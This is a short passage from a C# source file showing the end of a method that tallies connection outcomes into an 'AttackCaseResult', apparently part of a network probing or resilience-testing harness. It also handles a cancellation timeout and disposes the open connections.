                Sent = open.Count,
                Connections = options.PartialConnections,
                Normal = normal,
                Exceptions = exceptions,
                Closed = closed + refused,
                NoAnswer = noAnswer,
                ConnectFailed = connectFailed,
            };
        }
        catch (OperationCanceledException) when (!ct.IsCancellationRequested)
        {
            return new AttackCaseResult(name, ProbeOutcome.NoAnswer, 0) { Sent = open.Count, Connections = options.PartialConnections, Truncated = true };
        }
        finally
        {
            foreach (var c in open)
            {
                c.Dispose();
            }
        }
    }
}
